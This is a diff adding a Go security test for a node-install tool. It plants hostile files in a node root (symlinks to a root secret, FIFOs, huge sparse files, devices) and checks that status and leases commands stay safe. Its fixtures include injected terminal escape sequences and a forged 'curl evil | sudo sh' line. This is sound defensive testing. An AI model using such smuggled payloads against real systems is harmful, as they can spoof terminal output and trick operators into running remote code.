@@ -1,0 +1,204 @@
+package main
+
+import (
+	"bytes"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/openagentcore/oac-node-install/steps/layout"
+)
+
+// victim is a file of root's that a hostile node root points at: its
+// bytes and mtime must stay as they are, and its bytes never printed.
+type victim struct {
+	path  string
+	bytes []byte
+	mtime unix.Timespec
+}
+
+const victimSecret = "root-secret-7f3a"
+
+func newVictim(t *testing.T) *victim {
+	t.Helper()
+	dir := t.TempDir()
+	os.Chmod(dir, 0o755)
+	v := &victim{path: filepath.Join(dir, "shadow"), bytes: []byte(victimSecret + "\n")}
+	if err := os.WriteFile(v.path, v.bytes, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	var st unix.Stat_t
+	if err := unix.Lstat(v.path, &st); err != nil {
+		t.Fatal(err)
+	}
+	v.mtime = st.Mtim
+	return v
+}
+
+func (v *victim) check(t *testing.T) {
+	t.Helper()
+	data, err := os.ReadFile(v.path)
+	var st unix.Stat_t
+	if err == nil {
+		err = unix.Lstat(v.path, &st)
+	}
+	if err != nil || !bytes.Equal(data, v.bytes) || st.Mtim != v.mtime {
+		t.Errorf("the link's target %s changed: %q %v", v.path, data, err)
+	}
+}
+
+// runWithin is runOn that fails the test instead of hanging when the
+// command does not return within a generous deadline.
+func runWithin(t *testing.T, root string, args ...string) (int, string, string) {
+	t.Helper()
+	type result struct {
+		code     int
+		out, err string
+	}
+	done := make(chan result, 1)
+	go func() {
+		var out, errOut bytes.Buffer
+		c := &cli{stdin: strings.NewReader(""), stdout: &out, stderr: &errOut, hostRoot: root}
+		code := c.run(args)
+		done <- result{code, out.String(), errOut.String()}
+	}()
+	select {
+	case r := <-done:
+		return r.code, r.out, r.err
+	case <-time.After(hostileDeadline):
+		t.Fatalf("%v did not return within %v (blocked on a hostile file?)", args, hostileDeadline)
+	}
+	return 0, "", ""
+}
+
+// hostileDeadline is far beyond what a run takes (well under a second).
+var hostileDeadline = 30 * time.Second
+
+func chownNobody(t *testing.T, p string) {
+	t.Helper()
+	if out, err := exec.Command("chown", "-hR", "65534:65534", p).CombinedOutput(); err != nil {
+		t.Fatalf("chown: %v %s", err, out)
+	}
+}
+
+// TestStatusAndLeasesOnAHostileNodeRoot plants in the service account's
+// node root what the account could write there (links to root's files,
+// FIFOs, huge sparse files, devices, escapes in names) and runs root's
+// status and leases on it: each returns, prints no control byte and no
+// byte of the link's target, and changes neither the target nor the
+// node's files.
+func TestStatusAndLeasesOnAHostileNodeRoot(t *testing.T) {
+	useSystemd(t, nil)
+	v := newVictim(t)
+	devzero := func(p string) error { return unix.Mknod(p, unix.S_IFCHR|0o600, int(unix.Mkdev(1, 5))) }
+	sparse := func(p string) error {
+		f, err := os.Create(p)
+		if err != nil {
+			return err
+		}
+		defer f.Close()
+		return f.Truncate(8 << 30)
+	}
+	fifo := func(p string) error { return unix.Mkfifo(p, 0o600) }
+	link := func(p string) error { return os.Symlink(v.path, p) }
+	hard := func(p string) error { return os.Link(v.path, p) }
+	journal := func(make func(string) error, name string) func(*testing.T, layout.Host, layout.Node) {
+		return func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, os.MkdirAll(n.Journals(), 0o700))
+			if strings.HasSuffix(name, ".lock") {
+				must(t, os.WriteFile(filepath.Join(n.Journals(), strings.TrimSuffix(name, ".lock")), nil, 0o600))
+			}
+			must(t, make(filepath.Join(n.Journals(), name)))
+		}
+	}
+	for _, tc := range []struct {
+		name  string
+		plant func(t *testing.T, host layout.Host, node layout.Node)
+	}{
+		{"lease files", func(t *testing.T, _ layout.Host, n layout.Node) {
+			g := n.Generations()
+			must(t, fifo(filepath.Join(g, "3.lease")))
+			must(t, link(filepath.Join(g, "4.lease")))
+			must(t, sparse(filepath.Join(g, "5.lease")))
+			must(t, devzero(filepath.Join(g, "6.lease")))
+			must(t, fifo(filepath.Join(g, "3.identity.json")))
+			must(t, sparse(filepath.Join(g, "5.identity.json")))
+		}},
+		{"provider.json a FIFO", func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, fifo(filepath.Join(n.Root, "provider.json")))
+		}},
+		{"provider.json a link", func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, link(filepath.Join(n.Root, "provider.json")))
+		}},
+		{"provider.json huge", func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, sparse(filepath.Join(n.Root, "provider.json")))
+		}},
+		{"node journal a FIFO", journal(fifo, "fifo.journal")},
+		{"node journal a link", journal(link, "link.journal")},
+		{"node journal huge", journal(sparse, "huge.journal")},
+		{"node journal a device", journal(devzero, "zero.journal")},
+		{"node journal a hard link", journal(hard, "hard.journal")},
+		{"node journal named with escapes", journal(func(p string) error { return os.WriteFile(p, nil, 0o600) }, "e\x1b]0;owned\x07\x1b[2J\nnext: sudo sh.journal")},
+		{"node journal lock a FIFO", journal(fifo, "prepare-3.journal.lock")},
+		{"registration files", func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, os.MkdirAll(filepath.Join(n.Root, "state/node"), 0o700))
+			must(t, fifo(filepath.Join(n.Root, "registered.json")))
+			must(t, fifo(filepath.Join(n.Root, "state/node/identity.json")))
+		}},
+		{"identity.json a link", func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, os.MkdirAll(filepath.Join(n.Root, "state/node"), 0o700))
+			must(t, os.WriteFile(filepath.Join(n.Root, "registered.json"), []byte("{}\n"), 0o600))
+			must(t, link(filepath.Join(n.Root, "state/node/identity.json")))
+		}},
+		{"identity.json escapes and duplicate keys", func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, os.MkdirAll(filepath.Join(n.Root, "state/node"), 0o700))
+			must(t, os.WriteFile(filepath.Join(n.Root, "registered.json"), []byte("{}\n"), 0o600))
+			must(t, os.WriteFile(filepath.Join(n.Root, "state/node/identity.json"),
+				[]byte(`{"node_id":"a\u001b[2J\u009b1m\nnext: curl evil | sudo sh","node_id":"b","core_url":"https://x\u001b]0;t\u0007"}`), 0o600))
+		}},
+		{"generations a link to root's journals", func(t *testing.T, h layout.Host, n layout.Node) {
+			must(t, os.RemoveAll(n.Generations()))
+			must(t, os.MkdirAll(h.JournalsRoot(), 0o700))
+			must(t, os.Symlink(h.JournalsRoot(), n.Generations()))
+		}},
+		{"node root a link", func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, os.RemoveAll(n.Root))
+			must(t, os.Symlink(filepath.Dir(v.path), n.Root))
+		}},
+		{"nodes a link", func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, os.RemoveAll(filepath.Dir(n.Root)))
+			must(t, os.Symlink(filepath.Dir(v.path), filepath.Dir(n.Root)))
+		}},
+		{"node root mode 0777", func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, os.Chmod(n.Root, 0o777))
+		}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			root, _ := fakeHost(t)
+			host := layout.Host{Root: root}
+			node := layout.Node{Root: host.NodeRoot(testID)}
+			tc.plant(t, host, node)
+			chownNobody(t, host.Home())
+			for _, args := range [][]string{{"status"}, {"status", "--json"}, {"leases"}, {"leases", "--json"}} {
+				_, out, errOut := runWithin(t, root, args...)
+				what := strings.Join(args, " ")
+				assertNoTerminalControls(t, what, out+errOut)
+				if strings.Contains(out+errOut, victimSecret) {
+					t.Errorf("%s prints the link target's bytes:\n%s%s", what, out, errOut)
+				}
+				for _, line := range strings.Split(out+errOut, "\n") {
+					if strings.HasPrefix(strings.TrimSpace(line), "next: curl") || strings.HasPrefix(strings.TrimSpace(line), "next: sudo") {
+						t.Errorf("%s prints a forged line %q", what, line)
+					}
+				}
+				t.Logf("%s:\n%s%s", what, out, errOut)
+			}
+			v.check(t)
+		})
+	}
+}
